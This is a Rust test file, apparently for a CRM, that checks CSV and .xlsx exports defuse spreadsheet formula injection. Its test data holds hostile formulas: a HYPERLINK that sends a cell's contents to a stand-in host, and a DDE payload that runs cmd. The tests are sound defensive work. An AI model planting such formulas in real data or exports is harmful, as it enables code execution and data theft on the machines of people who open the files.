//! Formulas planted in what people type (issue 27): a customer named `=HYPERLINK(…)`, notes that
//! start with `+`, `-` or `@`, a salesperson whose name is a formula. Every CSV export carries
//! them as text Excel will not run (OWASP's leading `'`); numbers stay numbers; the .xlsx
//! exports hold them as string cells, never as formulas.

use std::io::{Cursor, Read};

use crate::common;

use common::calls::create_call;
use common::{TestServer, TestUser};
use serde_json::json;

const LINK: &str = r#"=HYPERLINK("http://x/?"&A1,"点击")"#;
const CMD: &str = "+cmd|' /C calc'!A0";
const SUM: &str = "@SUM(1+1)";
const MINUS: &str = "-2+3";

/// Fetches an export's file.
async fn file(server: &TestServer, token: &str, path: &str) -> Vec<u8> {
    let (status, answer) = server.get(path, token).await;
    assert_eq!(status, 200, "{path}: {answer}");
    let url = answer["data"]["downloadUrl"].as_str().unwrap();
    let resp = server.client.get(server.url(url)).send().await.unwrap();
    assert_eq!(resp.status(), 200, "{path}");
    resp.bytes().await.unwrap().to_vec()
}

/// Every cell of a CSV export (BOM dropped).
fn csv_cells(bytes: &[u8]) -> Vec<String> {
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body);
    reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// A salesperson with a formula for a name, one of each planted text in the office's data.
async fn plant(server: &TestServer) -> TestUser {
    let a = server.create_user("sales_a", "sales_staff", "一部").await;
    let (s, r) = server
        .put(
            &format!("/api/v1/users/{}", a.id),
            &server.admin_token,
            json!({"realName": "=EVIL()"}),
        )
        .await;
    assert_eq!(s, 200, "{r}");
    let (s, r) = server
        .post(
            "/api/v1/customers",
            &server.admin_token,
            json!({"name": LINK, "phone": "13900001111", "notes": CMD, "ownerId": a.id}),
        )
        .await;
    assert_eq!(s, 200, "{r}");
    let body = json!({"customerPhone": "13900001111", "customerName": SUM, "callStatus": "connected",
                      "duration": 61, "notes": MINUS});
    let call = create_call(server, &a.token, body).await;
    let (s, r) = common::audio::upload(
        server,
        &a.token,
        Some(&call),
        None,
        "a.wav",
        common::audio::wav_seconds(1),
    )
    .await;
    assert_eq!(s, 200, "{r}");
    let body = json!({"customerName": SUM, "content": MINUS, "status": "pending"});
    let (s, r) = server.post("/api/v1/calls/followups", &a.token, body).await;
    assert_eq!(s, 200, "{r}");
    a
}

#[tokio::test]
async fn csv_exports_carry_formulas_as_text() {
    let server = TestServer::start().await;
    plant(&server).await;
    let t = server.admin_token.clone();
    let exports = [
        ("/api/v1/customers/export?format=csv", vec![LINK, CMD]),
        ("/api/v1/calls/records/export?format=csv", vec![SUM, MINUS]),
        (
            "/api/v1/calls/followups/export?format=csv",
            vec![SUM, MINUS],
        ),
        ("/api/v1/calls/recordings/export?format=csv", vec![SUM]),
        (
            "/api/v1/calls/statistics/export?format=csv&startDate=2024-01-01&endDate=2030-12-31",
            vec![],
        ),
    ];
    for (path, planted) in exports {
        let cells = csv_cells(&file(&server, &t, path).await);
        let dangerous: Vec<_> = cells
            .iter()
            .filter(|c| c.starts_with(['=', '+', '-', '@', '\t', '\r']))
            .collect();
        assert!(dangerous.is_empty(), "{path}: {dangerous:?}");
        for text in planted {
            assert!(
                cells.iter().any(|c| *c == format!("'{text}")),
                "{path}: {text} kept, as text: {cells:?}"
            );
        }
        if path.contains("statistics") {
            assert!(cells.iter().any(|c| c.starts_with("'=EVIL()")), "{cells:?}");
        }
        // numbers and times stay as they were
        if path.contains("records") {
            assert!(cells.iter().any(|c| c == "13900001111"), "{cells:?}");
            assert!(cells.iter().any(|c| c == "0:01:01"), "{cells:?}");
        }
    }
}

#[tokio::test]
async fn xlsx_exports_hold_formulas_as_string_cells() {
    let server = TestServer::start().await;
    plant(&server).await;
    let t = server.admin_token.clone();
    for path in [
        "/api/v1/customers/export",
        "/api/v1/calls/records/export",
        "/api/v1/calls/followups/export",
        "/api/v1/calls/statistics/export?startDate=2024-01-01&endDate=2030-12-31",
    ] {
        let bytes = file(&server, &t, path).await;
        let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
        for i in 0..zip.len() {
            let mut part = zip.by_index(i).unwrap();
            let name = part.name().unwrap().to_string();
            let mut xml = String::new();
            part.read_to_string(&mut xml).unwrap();
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{path} {name}: a formula"
            );
        }
    }
    let bytes = file(&server, &t, "/api/v1/customers/export").await;
    let rows = dialbox::customers::sheet::records(&bytes, None).unwrap();
    assert!(rows[1].iter().any(|c| c == LINK), "{:?}", rows[1]);
}
